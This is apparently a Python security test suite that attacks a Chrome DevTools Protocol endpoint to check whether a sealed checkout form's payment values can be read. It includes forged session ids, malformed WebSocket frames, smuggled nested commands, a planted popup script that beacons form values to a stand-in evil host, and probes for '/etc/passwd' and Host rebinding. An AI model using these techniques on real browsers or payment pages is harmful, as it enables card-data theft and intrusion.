"""The endpoint itself: sessions, ids, frames, raw bytes, methods that open other ways in."""

import json
import os
import struct

from attacks import VALUES, attack
from support.cdp import Browser, CdpError, Session
from support.checkout import wait_for


@attack("xhr_form", "payment_element")
def second_client(a):
    """A second client attaches to page and frames while the first one pays."""
    a.open()
    other = a.client()
    session = other.attach(a.page.target_id)
    a.fill()
    a.look(session=session)
    for frame in a.frames(other):
        a.look(session=frame)
    a.pay()
    a.look(session=session)


@attack("xhr_form", "payment_element")
def client_that_comes_after(a):
    """A client that connects only after the fill, through the page's own WebSocket address."""
    a.open()
    a.fill()
    from support.cdp import WebSocket
    import urllib.request
    with urllib.request.urlopen("http://127.0.0.1:%d/json/list" % a.checkout.port, timeout=10) as answer:
        listed = json.load(answer)
    a.see(json.dumps(listed))
    for one in listed:
        path = one.get("webSocketDebuggerUrl", "")
        if not path:
            continue
        try:
            socket = WebSocket("127.0.0.1", a.checkout.port, "/" + path.split("/", 3)[3], timeout=5)
            for number, method, params in ((1, "Runtime.evaluate", {"expression": VALUES, "returnByValue": True}), (2, "Accessibility.getFullAXTree", {}),
                                           (3, "Page.captureSnapshot", {})):
                socket.send(json.dumps({"id": number, "method": method, "params": params}))
                while True:
                    text = socket.receive()
                    a.see(text)
                    if json.loads(text).get("id") == number:
                        break
            socket.close()
        except (CdpError, OSError) as error:
            a.refusals.append(str(error)[:60])
    a.pay()


@attack("xhr_form", "payment_element")
def not_flat_sessions(a):
    """attachToTarget without flatten, and sendMessageToTarget."""
    a.open()
    a.fill()
    for info in a.browser.targets():
        if info["type"] not in ("page", "iframe"):
            continue
        try:
            session = a.browser.call("Target.attachToTarget", {"targetId": info["targetId"], "flatten": False})["sessionId"]
            a.browser.call("Target.sendMessageToTarget", {"sessionId": session, "message": json.dumps(
                {"id": 1, "method": "Runtime.evaluate", "params": {"expression": VALUES, "returnByValue": True}})})
            a.browser.call("Target.sendMessageToTarget", {"targetId": info["targetId"], "message": json.dumps(
                {"id": 2, "method": "Runtime.evaluate", "params": {"expression": VALUES, "returnByValue": True}})})
        except CdpError as error:
            a.refusals.append(str(error)[:80])
    a.look("new Promise(r => setTimeout(r, 100))")
    a.pay()


@attack("xhr_form", "payment_element")
def exposed_protocol(a):
    """Target.exposeDevToolsProtocol gives a page a channel of its own to the whole browser."""
    a.open()
    other = a.browser.open(a.sites.origin("evil") + "/blank")
    a.undo.append(other.close)
    for more in ({}, {"inheritPermissions": True}):
        try:
            a.browser.call("Target.exposeDevToolsProtocol", {"targetId": other.target_id, "bindingName": "cdp", **more})
        except CdpError as error:
            a.refusals.append(str(error)[:60])
    a.fill()
    a.look("(async () => { if (!window.cdp) return 'none'; const log = []; let id = 0; const waits = {}; cdp.onmessage = m => { log.push(m); const o = JSON.parse(m); if (waits[o.id]) waits[o.id](o); };"
           "const call = (method, params, sessionId) => new Promise(r => { waits[++id] = r; cdp.send(JSON.stringify({id, method, params, sessionId})); setTimeout(() => r({}), 500); });"
           "const all = (await call('Target.getTargets', {})).result.targetInfos;"
           "for (const t of all) if (t.type === 'page' || t.type === 'iframe') { const s = (await call('Target.attachToTarget', {targetId: t.targetId, flatten: true})).result;"
           "if (s) await call('Runtime.evaluate', {expression: %s, returnByValue: true}, s.sessionId); } return log.join('\\n'); })()" % json.dumps(VALUES), other)
    a.pay()


@attack("xhr_form", "payment_element", control=False)
def forged_session_ids(a):
    """Another client's session ids, changed ones, and guesses."""
    other = a.client()
    a.open()
    mine = [a.page.session.session_id, *[f.session_id for f in a.frames()]]
    a.fill()
    for session in mine + [s[:-1] + ("0" if s[-1] != "0" else "1") for s in mine] + [s.lower() for s in mine] + \
            ["", " ", "0" * 32, "F" * 32, "../" + mine[0], mine[0] + "\0", mine[0] * 1000]:
        try:
            other.call("Runtime.evaluate", {"expression": VALUES, "returnByValue": True}, session)
        except CdpError as error:
            a.refusals.append(str(error)[:60])
    a.pay()


@attack("xhr_form", "payment_element", control=False)
def id_collisions(a):
    """The same ids again and again from two clients, also those that others may use for their own calls."""
    other = a.client()
    a.open()
    a.fill()
    for number in (0, 1, 2, 3, 1, 1, 2 ** 31 - 1, 2 ** 31, 2 ** 53, -1, 1e3, 1.5, "1", None, True, [1], {}):
        for browser, session in ((other, None), (a.browser, a.page.session.session_id)):
            message = {"id": number, "method": "Runtime.evaluate" if session else "Target.getTargets",
                       "params": {"expression": VALUES, "returnByValue": True} if session else {}}
            if session:
                message["sessionId"] = session
            try:
                browser.socket.send(json.dumps(message))
            except OSError:
                break
    a.come_back()
    a.pay()


def raw(a, data, opcode=1):
    """Bytes of a client's own, over a connection of its own."""
    other = a.client()
    try:
        other.socket.socket.settimeout(2)
        if isinstance(data, list):
            for part in data:
                other.socket.socket.sendall(part)
        else:
            other.socket.send(data, opcode)
        other.socket.send(json.dumps({"id": 7, "method": "Target.getTargets"}))
        while True:
            if json.loads(other.socket.receive()).get("id") == 7:
                break
    except (CdpError, OSError, ValueError) as error:
        a.refusals.append("closed: " + str(error)[:40])


@attack("xhr_form", "payment_element", control=False)
def nested_commands(a):
    """Zero bytes and whole commands inside strings, in raw bytes: nothing behind them is run."""
    a.open()
    a.fill()
    inner = json.dumps({"id": 99, "method": "Fetch.enable", "params": {"patterns": [{"urlPattern": "*"}]}, "sessionId": a.page.session.session_id})
    for text in ('{"id":1,"method":"Target.getTargets"}\0' + inner + "\0", "\0" + inner + "\0", inner + inner, '{"id":1,"method":"Target.getTargets","params":{}}\n' + inner,
                 json.dumps({"id": 2, "method": "Target.createTarget", "params": {"url": "about:blank\0" + inner}}),
                 '{"id":3,"method":"Target.getTargets","method":"Fetch.enable","params":{}}', '{"id":4,"method":"Target.getTargets","m\\u0065thod":"Fetch.enable"}',
                 '{"id":5,"method":"Target\\u002egetTargets","params":{"x":"\\u0000' + inner.replace('"', '\\"') + '"}}', "[" + inner + "]"):
        raw(a, text)
    a.pay()


@attack("xhr_form", "payment_element", control=False)
def oversized_and_malformed(a):
    """Frames that are too large, cut, unmasked, of wrong kinds and encodings; the browser serves on."""
    a.open()
    a.fill()
    raw(a, "x" * (1 << 20))
    raw(a, '{"id":1,"method":"Target.getTargets","params":{"x":"' + "y" * (8 << 20) + '"}}')
    raw(a, "[" * 100000)
    raw(a, '{"id":1,"method":' + '{"a":' * 20000)
    raw(a, b"\xff\xfe\x00\x01", 1)
    raw(a, b'{"id":1,"method":"Target.getTargets"}', 2)
    raw(a, b"", 3)
    raw(a, b"x" * 200, 9)
    raw(a, [b"\x81\x7f" + struct.pack("!Q", 1 << 62) + os.urandom(4)])
    raw(a, [b"\x81\xff" + struct.pack("!Q", (1 << 63) + 5) + os.urandom(4) + b"x"])
    raw(a, [b"\x01\x84\0\0\0\0{\"id", b"\x80\x80\0\0\0\0"])
    raw(a, [b"\x81\x04nope"])
    raw(a, [b"\xf1\x84\0\0\0\0abcd"])
    a.come_back()
    a.pay()


@attack("xhr_form", "payment_element", control=False)
def forbidden_methods(a):
    """Contexts with a proxy or universal access, other locations, certificates, extensions, old ways to attach."""
    a.open()
    for method, params in (
            ("Target.createBrowserContext", {"proxyServer": "127.0.0.1:%d" % a.sites.port}), ("Target.createBrowserContext", {"originsWithUniversalNetworkAccess": ["*"]}),
            ("Target.setRemoteLocations", {"locations": [{"host": "127.0.0.1", "port": a.checkout.port}]}), ("Security.setIgnoreCertificateErrors", {"ignore": True}),
            ("Security.setOverrideCertificateErrors", {"override": True}), ("Extensions.loadUnpacked", {"path": "/tmp"}), ("Extensions.getStorageItems", {"id": "x", "storageArea": "local"}),
            ("Target.openDevTools", {"targetId": a.page.target_id}), ("Target.getDevToolsTarget", {"targetId": a.page.target_id}), ("Target.attachToBrowserTarget", {}),
            ("Target.autoAttachRelated", {"targetId": a.page.target_id, "waitForDebuggerOnStart": False}), ("Browser.executeBrowserCommand", {"commandId": "openTabSearch"}),
            ("Popvault.begin", {}), ("Popvault.unseal", {"targetId": a.page.target_id}), ("Popvault.open", {"url": "about:blank"}), ("Popvault.redact", {"targetId": a.page.target_id})):
        try:
            found = a.browser.call(method, params)
            if method == "Target.createBrowserContext" and a.strength != "dom":
                a.see("made a context: " + json.dumps(found))
            if method == "Target.attachToBrowserTarget":
                session = Session(a.browser, found["sessionId"], None)
                a.ask(session, "Fetch.enable", patterns=[{"urlPattern": "*"}])
                a.ask(session, "Fetch.disable")
        except CdpError as error:
            a.refusals.append(str(error)[:60])
    a.fill()
    for method in ("Popvault.begin", "Popvault.end", "Popvault.unseal"):
        a.ask(a.page.session, method, targetId=a.page.target_id)
        try:
            a.browser.call(method, {"targetId": a.page.target_id})
        except CdpError as error:
            a.refusals.append(str(error)[:60])
    a.look()
    a.pay()


@attack("xhr_form", "payment_element")
def attached_before_the_form_was(a):
    """Sessions and bindings taken on about:blank, kept over the navigation to the checkout."""
    target = a.browser.call("Target.createTarget", {"url": "about:blank"})["targetId"]
    sessions = [a.browser.attach(target) for _ in range(3)]
    for session in sessions:
        a.ask(session, "Runtime.enable")
        a.ask(session, "Runtime.addBinding", name="tell")
    a.ask(sessions[0], "Page.enable")
    a.ask(sessions[0], "Page.addScriptToEvaluateOnNewDocument", source="setInterval(() => tell(%s), 40)" % VALUES, worldName="hidden")
    a.ask(sessions[1], "Page.addScriptToEvaluateOnNewDocument", source="setInterval(() => tell(%s), 40)" % VALUES)
    a.go(sessions[2], a.site.url)
    a.fill()
    for session in sessions:
        a.look(session=session)
    a.look("new Promise(r => setTimeout(r, 100))")
    a.pay()


@attack("xhr_form", "payment_element", control=False)
def detached_and_attached_again(a):
    """All sessions are let go before the fill, so that the page looks clean; what was planted stays."""
    a.open(plant="setInterval(() => out(%s), 40);" % VALUES)
    a.browser.call("Target.detachFromTarget", {"sessionId": a.page.session.session_id})
    a.fill()
    a.page.session = a.browser.attach(a.page.target_id)
    a.look()
    a.look("new Promise(r => setTimeout(r, 80))")
    a.pay()


@attack("xhr_form", "payment_element", control=False)
def popup_of_the_sealed_page(a):
    """After the fill the page opens windows and frames that look back at it."""
    a.open(plant="window.go = () => { const w = window.open('about:blank'); if (w) w.setInterval = 0, w.eval('setInterval(() => { try { const document = opener.document; navigator.sendBeacon(\"%s/take\", %s); } catch (e) { } }, 40)'); };"
                 "addEventListener('click', () => go(), true);" % (a.evil, VALUES.replace("'", "\\'").replace("\n", " ")))
    a.fill()
    a.look("go()", userGesture=True)
    a.look("new Promise(r => setTimeout(r, 100))")
    a.pay()
    for info in a.browser.targets():
        if info["type"] == "page" and info.get("openerId"):
            a.browser.call("Target.closeTarget", {"targetId": info["targetId"]})


@attack("xhr_form", "payment_element", control=False)
def commands_queued_before(a):
    """Evaluations that wait for a promise, sent before the fill, are answered with what stands there afterwards."""
    a.open()
    for session in [a.page.session, *a.frames()]:
        for wait in (200, 600, 1200):
            a.browser.next_id += 1
            a.browser.socket.send(json.dumps({"id": a.browser.next_id, "sessionId": session.session_id, "method": "Runtime.evaluate", "params": {
                "expression": "new Promise(r => setTimeout(() => r(%s), %d))" % (VALUES, wait), "awaitPromise": True, "returnByValue": True}}))
    a.fill()
    a.look("new Promise(r => setTimeout(r, 700))")
    a.pay()
    a.look("new Promise(r => setTimeout(r, 700))")


@attack("xhr_form", control=False)
def http_endpoints(a):
    """The endpoint's HTTP side: other hosts and origins, methods, paths."""
    import http.client
    a.open()
    a.fill()
    for method, path, headers in (
            ("GET", "/json/list", {"Host": "evil.localhost:%d" % a.checkout.port}), ("GET", "/json/version", {"Host": "rebound.example"}),
            ("GET", "/json/list", {"Origin": a.evil}), ("PUT", "/json/new?file:///etc/passwd", {}), ("PUT", "/json/new?" + a.site.url, {}),
            ("GET", "/json/protocol", {}), ("GET", "/json/activate/x", {}), ("GET", "/devtools/inspector.html", {}), ("GET", "/../../etc/passwd", {}), ("TRACE", "/", {})):
        connection = http.client.HTTPConnection("127.0.0.1", a.checkout.port, timeout=5)
        try:
            connection.request(method, path, headers=headers)
            answer = connection.getresponse()
            a.see(answer.read())
            if answer.status >= 400:
                a.refusals.append("%s %s: %d" % (method, path[:20], answer.status))
        except (OSError, http.client.HTTPException) as error:
            a.refusals.append(str(error)[:40])
        finally:
            connection.close()
    a.pay()
